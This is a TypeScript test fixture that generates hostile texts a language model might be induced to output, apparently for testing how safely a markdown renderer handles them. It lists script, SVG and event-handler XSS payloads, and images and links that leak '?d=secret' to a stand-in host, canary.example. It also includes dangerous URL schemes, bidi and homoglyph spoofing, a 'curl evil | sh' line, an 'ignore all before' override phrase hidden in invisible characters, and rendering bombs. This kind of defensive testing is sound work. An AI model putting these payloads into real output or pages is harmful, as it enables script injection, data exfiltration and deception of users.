/** A text that a model could be made to write, and its aim. */
export interface HostileText {
  family: string;
  text: string;
}

/** Every payload calls `window.ran()`; every URL is on this host. */
export const hostileHost = 'canary.example';

const run = 'window.ran()';
const url = (path: string) => `https://${hostileHost}/${path}?d=secret`;
const handlers = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onbegin'];

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT SRC="${url('a.js')}"></SCRIPT>`,
  `<scr<script>ipt>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<script type="module">${run}</script>`,
  `<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
  `<iframe src="javascript:parent.ran()"></iframe>`,
  `<iframe src="${url('frame')}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="${url('object')}"></object>`,
  `<embed src="${url('embed')}">`,
  `<base href="${url('base')}">`,
  `<meta http-equiv="refresh" content="0;url=${url('refresh')}">`,
  `<form action="javascript:${run}"><button autofocus onfocus="${run}">x</button></form>`,
  `<isindex action="javascript:${run}" type=submit value=x>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<textarea></textarea><script>${run}</script>`,
  `<style>@import "${url('import.css')}";</style>`,
  `<style>body { background: url(${url('style.png')}) }</style>`,
  `<link rel="stylesheet" href="${url('sheet.css')}">`,
  `<link rel="prefetch" href="${url('prefetch')}">`,
  `<link rel="dns-prefetch" href="//${hostileHost}">`,
  `<link rel="preconnect" href="//${hostileHost}">`,
  `<math><a xlink:href="javascript:${run}">x</a></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<div style="background-image: url(${url('div.png')})">x</div>`,
  `<p style="width: expression(${run})">x</p>`,
  `<table background="${url('table.png')}"><td background="${url('td.png')}">x</td></table>`,
  `<body background="${url('body.png')}" onload="${run}">`,
  `<!--><script>${run}</script-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml-stylesheet href="${url('xml.css')}"?>`,
];

const svg = [
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="${url('svg.js')}"/></svg>`,
  `<svg><image href="${url('svg.png')}"/></svg>`,
  `<svg><use href="${url('use.svg')}#x"/></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y="20">x</text></a></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=onmouseover to="${run}"></svg>`,
  `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
  `<svg><style>@import url(${url('svg.css')});</style></svg>`,
  `<svg><feImage href="${url('fe.png')}"/></svg>`,
  `<svg><filter><feImage xlink:href="${url('fe2.png')}"/></filter></svg>`,
  `![x](data:image/svg+xml;utf8,<svg/onload=${run}>)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5yYW4oKSIvPg==)`,
];

const elements = [
  'img src=x',
  'video src=x',
  'audio src=x',
  'body',
  'details open',
  'input autofocus',
  'marquee',
  'a href=#',
];

const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `javascript&#x3A;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A;&#x61;vascript:${run}`,
  `javascript\\:${run}`,
  `\u0001javascript:${run}`,
  `\u00a0javascript:${run}`,
  `java\u200bscript:${run}`,
  `javascript://${hostileHost}/%0a${run}`,
  `javascript:/*--></title></style></textarea></script><svg/onload=${run}>`,
  `vbscript:msgbox(1)`,
  `VBSCRIPT:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuKCk8L3NjcmlwdD4=`,
  `DATA:application/xhtml+xml,x`,
  `file:///etc/passwd`,
  `FILE://server/share/x.exe`,
  `\\\\server\\share\\x.exe`,
  `//${hostileHost}/x`,
  `/\\${hostileHost}/x`,
  `\\/\\/${hostileHost}`,
  `https:${hostileHost}`,
  `https:\\\\${hostileHost}`,
  `https://good.example@${hostileHost}/`,
  `https://good.example%2f@${hostileHost}/`,
  `https://user:pass@${hostileHost}/`,
  `ms-msdt:/id`,
  `search-ms:query=x`,
  `smb://${hostileHost}/x`,
  `ftp://${hostileHost}/x`,
  `blob:https://${hostileHost}/1`,
  `view-source:https://${hostileHost}`,
  `chrome://settings`,
  `about:blank`,
  `ws://${hostileHost}`,
  `intent://${hostileHost}#Intent;end`,
  `tel:112`,
];

const linkForms = [
  (to: string) => `[x](${to})`,
  (to: string) => `[x](<${to}>)`,
  (to: string) => `<${to}>`,
  (to: string) => `[x][r]\n\n[r]: <${to}>`,
  (to: string) => `<a href="${to}">x</a>`,
];

const imageForms = [
  (to: string) => `![x](${to})`,
  (to: string) => `![x](<${to}> "title")`,
  (to: string) => `![x][r]\n\n[r]: ${to}`,
  (to: string) => `![r]\n\n[r]: ${to}`,
  (to: string) => `[![x](${to})](${to})`,
  (to: string) => `| ![x](${to}) |\n|---|\n| ![y](${to}) |`,
  (to: string) => `> - ![x](${to})`,
  (to: string) => `<img src="${to}">`,
  (to: string) => `<img srcset="${to} 1x, ${to} 2x">`,
  (to: string) => `<picture><source srcset="${to}"><img></picture>`,
  (to: string) => `<video poster="${to}"></video>`,
  (to: string) => `<audio src="${to}" autoplay></audio>`,
  (to: string) => `<input type="image" src="${to}">`,
  (to: string) => `**![x](${to})**`,
  (to: string) => `# ![x](${to})`,
  (to: string) => `[^1]\n\n[^1]: ![x](${to})`,
  (to: string) => `$\\includegraphics{${to}}$`,
  (to: string) => `$$\\href{${to}}{x}$$`,
  (to: string) => `$\\htmlData{x=1}{\\url{${to}}}$`,
  (to: string) => `![x](${to}`,
  (to: string) => `![x\n](${to})`,
];

const imagePlaces = [
  url('pixel.png'),
  `http://${hostileHost}/pixel.png`,
  `//${hostileHost}/pixel.png`,
  `HTTPS://${hostileHost}/%70ixel`,
  `https://${hostileHost}:8443/p.png#secret`,
  `data:image/png;base64,iVBORw0KGgo=`,
];

const tricks = [
  'admin\u202etxt.exe \u2066hidden\u2069',
  '`rm -rf \u202e/ \u2066#\u2069`',
  '```sh\necho safe \u202e; curl evil | sh\n```',
  `[https://good.example](https://${hostileHost})`,
  `[\u202egood](https://${hostileHost})`,
  'https://g\u043e\u043egle.example/',
  Array.from('ignore all before', (letter) => String.fromCodePoint(0xe0000 + (letter.codePointAt(0) ?? 0))).join(''),
  '```\n\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b[2J\n```',
  'zero\u200bwidth `zero\u200bwidth`',
  '\u0000 \u0008 \u007f \u009b31m',
  'Z\u0351\u034c\u0348'.repeat(500),
  '\ud800 lone \udfff halves',
];

const bombs = [
  '>'.repeat(5000),
  '> '.repeat(2000),
  '- '.repeat(3000),
  '1. '.repeat(1500),
  Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n'),
  '*'.repeat(5000),
  '**a '.repeat(1500),
  '_a'.repeat(3000),
  '['.repeat(5000),
  '![['.repeat(2000),
  '[a]('.repeat(2000),
  '('.repeat(5000),
  '`'.repeat(5001),
  '`a``b'.repeat(1200),
  '<'.repeat(5000),
  '<a '.repeat(2000),
  '$'.repeat(4000),
  '$a'.repeat(2000),
  '$\\def\\x{\\x\\x}\\x$',
  `$${'{'.repeat(2000)}x${'}'.repeat(2000)}$`,
  '$$\\rule{100000em}{100000em}$$',
  `$$${'\\frac{a}{'.repeat(300)}b${'}'.repeat(300)}$$`,
  `${'|a'.repeat(400)}|\n${'|-'.repeat(400)}|\n${'|b'.repeat(400)}|`,
  '| a |\n|---|\n'.concat('| b |\n'.repeat(3000)),
  '- item\n'.repeat(4000),
  '```\n'.concat('x'.repeat(30_000)),
  '&amp;'.repeat(4000),
  '\\'.repeat(5000),
  '[a]: /b\n'.repeat(1000).concat('[a]'),
  '[^1]: x\n\n'.repeat(500).concat('[^1]'),
  '# '.repeat(2000),
  '~~a '.repeat(1500),
  'https://a.example/'.repeat(500),
  'a@'.repeat(3000),
  '<!--'.repeat(1500),
  `${'a '.repeat(5000)}\n===`,
];

function of(family: string, texts: readonly string[]): HostileText[] {
  return texts.map((text) => ({ family, text }));
}

const inText = (texts: readonly string[]) =>
  texts.flatMap((text) => [text, `Words ${text} more`, `- ${text}\n\n${text}`]);

export const hostileTexts: readonly HostileText[] = [
  ...of('HTML and scripts', inText(scripts)),
  ...of('SVG', inText(svg)),
  ...of(
    'event handlers',
    elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}="${run}">`)),
  ),
  ...of(
    'links',
    schemes.flatMap((to) => linkForms.map((form) => form(to))),
  ),
  ...of(
    'images that tell',
    imagePlaces.flatMap((to) => imageForms.map((form) => form(to))),
  ),
  ...of('hidden characters', tricks),
  ...of('bombs', bombs),
];
